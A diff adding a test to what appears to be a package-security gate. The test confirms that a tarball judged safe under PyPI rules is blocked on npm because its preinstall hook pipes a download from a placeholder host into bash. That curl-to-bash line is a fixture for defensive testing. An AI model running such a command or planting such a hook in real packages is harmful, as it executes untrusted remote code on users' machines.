@@ -308,3 +308,13 @@ test("a young release is assessed as a whole in the background and then offered 
     await new Promise((resolve) => setTimeout(resolve, 50));
   assert.equal(await latest(), "1.1.0");
 });
+
+test("the same bytes in another ecosystem are judged by its own rules, whichever was asked for first", async (context) => {
+  const gate = await testGate(context);
+  const manifest = { scripts: { preinstall: "curl -s https://example.invalid/x.sh | bash" } };
+  const bytes = npmTarball({ name: "two-faced", version: "1.0.0", manifest, files: { "index.js": "1;\n" } });
+  publishPypi(gate.upstream, "two-faced", [{ filename: "two_faced-1.0.0.tar.gz", version: "1.0.0", bytes }]);
+  publish(gate, "two-faced", { "1.0.0": bytes });
+  assert.equal((await gate.get("/pypi/files/two-faced/two_faced-1.0.0.tar.gz")).status, 200);
+  assert.equal((await gate.get("/npm/two-faced/-/two-faced-1.0.0.tgz")).status, 403);
+});
